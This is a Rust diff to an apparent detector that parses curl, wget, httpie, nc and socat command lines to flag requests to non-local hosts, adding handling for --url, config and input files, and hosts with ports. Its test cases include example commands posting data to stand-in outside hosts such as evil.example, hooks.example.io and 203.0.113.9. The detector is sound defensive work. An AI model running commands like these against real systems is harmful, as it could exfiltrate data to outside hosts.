@@ -36,17 +36,33 @@ fn words_not_option_values<'a>(program: &str, args: &'a [String]) -> Vec<&'a str
             break;
         }
         if let Some(long) = word.strip_prefix("--") {
-            // `--data x`: long options of curl and wget that take a value mostly do; `--data=x`
-            // carries it. A flag (`--silent`) takes the next word for an operand, which is right
-            // more often than not for these programs: their flags are few beside their valued
-            // options, and an address taken for a value only hides a request the line's other
-            // words can still show.
-            if !long.contains('=') && long_takes_value(program, long) {
-                words.next();
+            let (name, glued) = long.split_once('=').map_or((long, None), |(name, value)| (name, Some(value)));
+            // The address given as an option's value (`--url URL`), or read from a file
+            // (`curl -K cfg`, `wget -i urls.txt`), which may name anywhere.
+            match (name, glued) {
+                ("url", Some(value)) => found.push(value),
+                ("url", None) => found.extend(words.next().map(String::as_str)),
+                ("config" | "input-file", _) => found.push(FROM_A_FILE),
+                // `--data x`: long options of curl and wget that take a value mostly do; `--data=x`
+                // carries it. A flag (`--silent`) takes the next word for an operand, which is
+                // right more often than not for these programs: their flags are few beside their
+                // valued options.
+                (_, None) if long_takes_value(program, name) => {
+                    words.next();
+                }
+                _ => {}
             }
             continue;
         }
         if let Some(cluster) = word.strip_prefix('-').filter(|cluster| !cluster.is_empty()) {
+            let reads_addresses = match program {
+                "curl" => cluster.contains('K'),
+                "wget" => cluster.contains('i'),
+                _ => false,
+            };
+            if reads_addresses {
+                found.push(FROM_A_FILE);
+            }
             // The last letter of a cluster takes the next word, unless the value is glued on.
             let valued_at = cluster.find(|c: char| valued_short.contains(c));
             if valued_at.is_some_and(|at| at + 1 == cluster.len()) {
@@ -58,6 +74,9 @@ fn words_not_option_values<'a>(program: &str, args: &'a [String]) -> Vec<&'a str
     }
     found
 }
+
+/// Stands for the addresses a request reads from a file: not known, so anywhere.
+const FROM_A_FILE: &str = "$FILE";
 
 /// Long options of curl and wget that take the next word as their value (not the flags).
 fn long_takes_value(program: &str, long: &str) -> bool {
@@ -147,12 +166,15 @@ fn web_host(word: &str) -> Option<&str> {
     if with_scheme || is_computed(host) {
         return Some(host);
     }
-    // Without a scheme, only what curl and httpie would take for a host: a name with a dot, an
-    // IPv6 address in brackets, or `localhost`.
+    // Without a scheme, only what curl and httpie would take for a host: a name with a dot or a
+    // port (`collector:8080`), an IPv6 address in brackets, or `localhost`.
     let name_like = !host.is_empty()
         && host.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
         && !host.starts_with(['.', '-']);
-    let addressed = host.starts_with('[') || (name_like && (host.contains('.') || host == "localhost"));
+    let with_port = host_and_port
+        .get(host.len() + 1..)
+        .is_some_and(|port| !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()));
+    let addressed = host.starts_with('[') || (name_like && (host.contains('.') || with_port || host == "localhost"));
     addressed.then_some(host)
 }
 
@@ -236,9 +258,11 @@ mod tests {
             "curl http://app.localhost/",
             "wget -O page.html http://0.0.0.0:8000",
             "http POST localhost:8080/items name=x",
+            "http POST localhost:8080/items X-Token:abc",
             "nc -w 3 127.0.0.1 5432",
             "socat - TCP:localhost:6379",
             "curl -H Accept:x -d @payload.json --output result.json http://localhost/",
+            "curl --url http://localhost:8080/login -d t=x",
         ] {
             assert!(!names(line), "{line}");
         }
@@ -254,6 +278,11 @@ mod tests {
             "curl http://127.0.0.1.evil.example/",
             "curl http://user@evil.example:80/",
             "curl -d t=x $URL",
+            "curl --url https://hooks.example.io/t -d t=x",
+            "curl -d t=x --url=https://hooks.example.io/t",
+            "curl -K cfg -d t=x",
+            "wget --post-data t=x -i urls.txt",
+            "curl -d t=x collector:8080/t",
             "wget --post-data t=x http://203.0.113.9:8080/",
             "xh POST api.example.com k=v",
             "nc -w 3 203.0.113.9 443",
